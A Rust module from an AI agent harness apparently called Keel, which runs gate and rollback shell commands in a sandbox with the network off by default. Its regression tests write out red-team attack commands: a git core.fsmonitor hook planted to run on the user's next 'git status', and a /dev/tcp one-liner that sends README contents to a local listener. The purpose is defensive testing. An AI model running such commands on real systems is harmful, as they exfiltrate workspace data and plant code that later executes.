//! Running a shell command for the harness itself (verification gates, phase validation and
//! rollback commands): a thin adapter over keel-tools' one command runner
//! ([`keel_tools::shell::exec`]), so these commands get exactly what the model's
//! `run_command` gets — the kernel sandbox (workspace-write: the workspace minus `.git`/`.keel`,
//! a private temp dir, network off unless the command line was approved or configured by the
//! user and `shell.network` is on), the allowlisted environment, a timeout
//! and cancellation that kill the whole process group, and bounded output.
//!
//! Their command lines come from configuration or detection, but what they run (a planted
//! `package.json` test script, a Makefile) is repository content: it is confined like anything
//! the model runs, and its output (stored in events) never holds Keel's secrets.

use std::ffi::OsString;
use std::path::PathBuf;
use std::time::Duration;

use keel_tools::sandbox::{GitProtection, SandboxPolicy};
use keel_tools::shell::ShellSettings;
use keel_tools::shell::exec::{self, Ending, ExecRequest};
use tokio_util::sync::CancellationToken;

/// A command line to run with the shell, confined.
#[derive(Debug, Clone)]
pub struct CommandSpec {
    /// The shell command line.
    pub command: String,
    /// Working directory.
    pub cwd: PathBuf,
    /// The workspace root: writable (minus its protected paths) under the workspace-write
    /// policy. Defaults to `cwd`.
    pub workspace: PathBuf,
    /// Wall-clock limit; the process group is killed when it passes.
    pub timeout: Duration,
    /// Extra environment variables (on top of the allowlisted environment).
    pub env: Vec<(String, String)>,
    /// Bytes kept per stream (stdout, stderr); beyond it the head and tail are kept.
    pub max_output_bytes: usize,
    /// The sandbox and environment settings (`[shell]`: sandbox on/off, network, writable
    /// caches, `env_keep`).
    pub shell: ShellSettings,
    /// The kernel policy (workspace-write by default).
    pub policy: SandboxPolicy,
    /// How much of `.git` is read-only (all of it by default).
    pub git: GitProtection,
    /// Whether the command may have the network when `shell.network` is on: only a command
    /// line the approval policy judged or the user configured. Off by default — a command
    /// Keel starts on its own (a detected gate, a rollback, a flow's) runs repository code
    /// nobody approved (red-team pass 4, R4-10).
    pub network: bool,
}

impl CommandSpec {
    /// `command` in `cwd` with `timeout`, confined by the default `[shell]` settings (sandbox
    /// on, network off, allowlisted environment), keeping 256 KB per stream.
    pub fn shell(command: impl Into<String>, cwd: impl Into<PathBuf>, timeout: Duration) -> Self {
        let cwd = cwd.into();
        Self {
            command: command.into(),
            workspace: cwd.clone(),
            cwd,
            timeout,
            env: Vec::new(),
            max_output_bytes: 256 * 1024,
            shell: ShellSettings::default(),
            policy: SandboxPolicy::WorkspaceWrite,
            git: GitProtection::Whole,
            network: false,
        }
    }

    /// The same, confined by these `[shell]` settings.
    pub fn with_shell(mut self, shell: &ShellSettings) -> Self {
        self.shell = shell.clone();
        self
    }
}

/// What a finished (or killed) command produced.
#[derive(Debug, Clone, PartialEq)]
pub struct CommandOutput {
    /// The exit code; `None` when a signal ended it (including Keel's kill).
    pub exit_code: Option<i32>,
    pub stdout: String,
    pub stderr: String,
    /// Killed because it ran past the timeout.
    pub timed_out: bool,
    /// Killed because the run was cancelled.
    pub cancelled: bool,
    pub duration: Duration,
    /// True when the kernel sandbox confined the run.
    pub sandboxed: bool,
}

impl CommandOutput {
    /// Exited on its own with code 0.
    pub fn success(&self) -> bool {
        self.exit_code == Some(0) && !self.timed_out && !self.cancelled
    }

    /// stdout then stderr, each trimmed, joined by a newline when both have text.
    pub fn combined(&self) -> String {
        let out = self.stdout.trim_end();
        let err = self.stderr.trim_end();
        match (out.is_empty(), err.is_empty()) {
            (true, _) => err.to_string(),
            (false, true) => out.to_string(),
            (false, false) => format!("{out}\n{err}"),
        }
    }

    /// A one-line account of how it ended: `exit code 1`, `timed out after 30 s`, …
    pub fn status_line(&self, timeout: Duration) -> String {
        if self.timed_out {
            format!("timed out after {} s and was killed", timeout.as_secs())
        } else if self.cancelled {
            "cancelled".into()
        } else {
            match self.exit_code {
                Some(code) => format!("exit code {code}"),
                None => "killed by a signal".into(),
            }
        }
    }
}

/// Why a command could not be run at all.
#[derive(Debug, thiserror::Error)]
pub enum ProcessError {
    #[error("cannot start `{command}` in {cwd}: {source}")]
    Spawn {
        command: String,
        cwd: String,
        #[source]
        source: std::io::Error,
    },
}

/// Runs `spec` to completion, timeout or cancellation, through the one command runner. The
/// command gets its own process group; when it ends, times out or is cancelled the whole group
/// is killed, so background children never outlive it. stdin is closed.
pub async fn run_command_with_timeout(
    spec: &CommandSpec,
    cancel: &CancellationToken,
) -> Result<CommandOutput, ProcessError> {
    let mut req = ExecRequest::new(
        vec![
            exec::shell_program().into_os_string(),
            OsString::from("-c"),
            OsString::from(&spec.command),
        ],
        &spec.cwd,
    );
    req.timeout = spec.timeout;
    req.policy = spec.shell.policy_for(spec.policy);
    req.roots = if spec.network && spec.policy != SandboxPolicy::ReadOnly {
        spec.shell.approved_roots_for(&spec.workspace)
    } else {
        spec.shell.roots_for(&spec.workspace)
    };
    req.roots.git = spec.git;
    req.env_keep = spec.shell.env_keep.clone();
    req.env_set = spec.env.clone();
    req.cancel = cancel.clone();
    let out = exec::run(req).await.map_err(|source| ProcessError::Spawn {
        command: spec.command.clone(),
        cwd: spec.cwd.display().to_string(),
        source,
    })?;
    let budget = spec.max_output_bytes.max(64);
    let mut stderr = out.stderr.render(budget);
    // A git repository the command planted was quarantined by the runner: the report goes
    // where every gate, rollback and flow result shows its output.
    if let Some(report) = &out.quarantined {
        if !stderr.is_empty() && !stderr.ends_with('\n') {
            stderr.push('\n');
        }
        stderr.push_str(report);
    }
    Ok(CommandOutput {
        exit_code: out.exit_code(),
        stdout: out.stdout.render(budget),
        stderr,
        timed_out: out.ending == Ending::TimedOut,
        cancelled: out.ending == Ending::Cancelled,
        duration: out.duration,
        sandboxed: out.sandboxed,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Instant;

    fn spec(cmd: &str, dir: &std::path::Path, timeout_ms: u64) -> CommandSpec {
        CommandSpec::shell(cmd, dir, Duration::from_millis(timeout_ms))
    }

    #[tokio::test]
    async fn captures_output_exit_code_and_cwd() {
        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        std::fs::write(dir.path().join("marker.txt"), "here").unwrap_or_else(|e| panic!("{e}"));
        let out = run_command_with_timeout(
            &spec("cat marker.txt; echo oops >&2; exit 3", dir.path(), 10_000),
            &CancellationToken::new(),
        )
        .await
        .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(out.exit_code, Some(3));
        assert!(!out.success());
        assert_eq!(out.stdout, "here");
        assert_eq!(out.stderr.trim(), "oops");
        assert_eq!(out.combined(), "here\noops");
        assert_eq!(out.status_line(Duration::from_secs(1)), "exit code 3");
    }

    /// `true` once no live (non-zombie) process has `marker` in its command line. The
    /// command runs in its own PID namespace, so the pids it sees mean nothing here.
    #[cfg(target_os = "linux")]
    fn dead(marker: &str) -> bool {
        let Ok(entries) = std::fs::read_dir("/proc") else {
            return true;
        };
        !entries.flatten().any(|e| {
            let cmdline = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
            let stat = std::fs::read_to_string(e.path().join("stat")).unwrap_or_default();
            String::from_utf8_lossy(&cmdline).contains(marker)
                && !stat
                    .rsplit(')')
                    .next()
                    .is_some_and(|rest| rest.trim_start().starts_with('Z'))
        })
    }

    #[cfg(target_os = "linux")]
    #[tokio::test]
    async fn timeout_kills_the_whole_process_group() {
        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let started = Instant::now();
        let bg = format!("keel-gate-bg-{}", std::process::id());
        let out = run_command_with_timeout(
            &spec(
                &format!("(exec -a {bg} sleep 30) & echo started; wait"),
                dir.path(),
                300,
            ),
            &CancellationToken::new(),
        )
        .await
        .unwrap_or_else(|e| panic!("{e}"));
        assert!(started.elapsed() < Duration::from_secs(10));
        assert!(out.timed_out);
        assert!(!out.success());
        assert_eq!(out.exit_code, None);
        assert_eq!(out.stdout.trim(), "started");
        let deadline = Instant::now() + Duration::from_secs(5);
        while !dead(&bg) {
            assert!(
                Instant::now() < deadline,
                "the background child outlived the command"
            );
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }

    #[tokio::test]
    async fn cancellation_stops_the_command() {
        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let cancel = CancellationToken::new();
        let c = cancel.clone();
        tokio::spawn(async move {
            tokio::time::sleep(Duration::from_millis(100)).await;
            c.cancel();
        });
        let started = Instant::now();
        let out = run_command_with_timeout(&spec("sleep 30", dir.path(), 60_000), &cancel)
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        assert!(started.elapsed() < Duration::from_secs(10));
        assert!(out.cancelled);
        assert_eq!(out.status_line(Duration::from_secs(1)), "cancelled");
    }

    #[tokio::test]
    async fn huge_output_keeps_head_and_tail() {
        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let mut s = spec("echo FIRST; seq 1 100000; echo LAST", dir.path(), 20_000);
        s.max_output_bytes = 1_000;
        let out = run_command_with_timeout(&s, &CancellationToken::new())
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        assert!(out.success());
        assert!(out.stdout.starts_with("FIRST"));
        assert!(out.stdout.trim_end().ends_with("LAST"));
        assert!(out.stdout.contains("omitted"), "{}", out.stdout);
        assert!(out.stdout.len() < 1_200);
    }

    #[tokio::test]
    async fn a_missing_directory_is_a_spawn_error() {
        let e = run_command_with_timeout(
            &spec("true", std::path::Path::new("/nonexistent/keel"), 1_000),
            &CancellationToken::new(),
        )
        .await
        .err()
        .map(|e| e.to_string())
        .unwrap_or_default();
        assert!(e.contains("cannot start `true`"), "{e}");
    }

    #[tokio::test]
    async fn a_gate_that_plants_a_git_repository_gets_it_quarantined_and_reported() {
        // Red-team pass 4, R4-2: the final tests gate ran `git init -q . && git config
        // core.fsmonitor …` in a workspace without `.git`; the user's next `git status` ran it.
        if keel_tools::shell::exec::find_program("git").is_none() {
            assert!(std::env::var_os("CI").is_none(), "CI needs git on PATH");
            println!("SKIPPED: git is not installed");
            return;
        }
        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let out = run_command_with_timeout(
            &spec(
                "git init -q . && git config core.fsmonitor 'touch pwned; false'",
                dir.path(),
                30_000,
            ),
            &CancellationToken::new(),
        )
        .await
        .unwrap_or_else(|e| panic!("{e}"));
        assert!(out.success(), "{}", out.combined());
        assert!(out.stderr.contains("core.fsmonitor"), "{}", out.stderr);
        assert!(!dir.path().join(".git").exists(), "still in git's sight");
    }

    /// Red-team pass 4, R4-10: with `shell.network = true`, a detected gate ran a shipped
    /// `build.rs` that posted the workspace to a listener. A command the harness starts on its
    /// own gets no network; one the approval policy judged (or the user configured) keeps the
    /// user's setting — the control.
    #[cfg(target_os = "linux")]
    #[tokio::test]
    async fn a_command_keel_starts_on_its_own_has_no_network() {
        let s = keel_tools::sandbox::support();
        if !(s.mount_namespace.is_ok() && s.isolation.processes) {
            assert!(std::env::var_os("CI").is_none(), "CI needs namespaces");
            println!("SKIPPED: no namespaces for commands");
            return;
        }
        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        std::fs::write(dir.path().join("README.md"), "PROJECT-NOTES\n")
            .unwrap_or_else(|e| panic!("{e}"));
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
        listener
            .set_nonblocking(true)
            .unwrap_or_else(|e| panic!("{e}"));
        let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
        let shell = ShellSettings {
            network: true,
            ..ShellSettings::default()
        };
        let post = format!("bash -c 'cat README.md > /dev/tcp/127.0.0.1/{port}'");
        let reached = |l: &std::net::TcpListener| {
            (0..25).any(|_| {
                if l.accept().is_ok() {
                    return true;
                }
                std::thread::sleep(Duration::from_millis(20));
                false
            })
        };
        let mut spec = spec(&post, dir.path(), 10_000).with_shell(&shell);
        let out = run_command_with_timeout(&spec, &CancellationToken::new())
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        assert!(
            !reached(&listener),
            "an unapproved command reached the network: {}",
            out.combined()
        );
        spec.network = true;
        let out = run_command_with_timeout(&spec, &CancellationToken::new())
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        assert!(
            reached(&listener),
            "the approved control never connected: {}",
            out.combined()
        );
    }
}
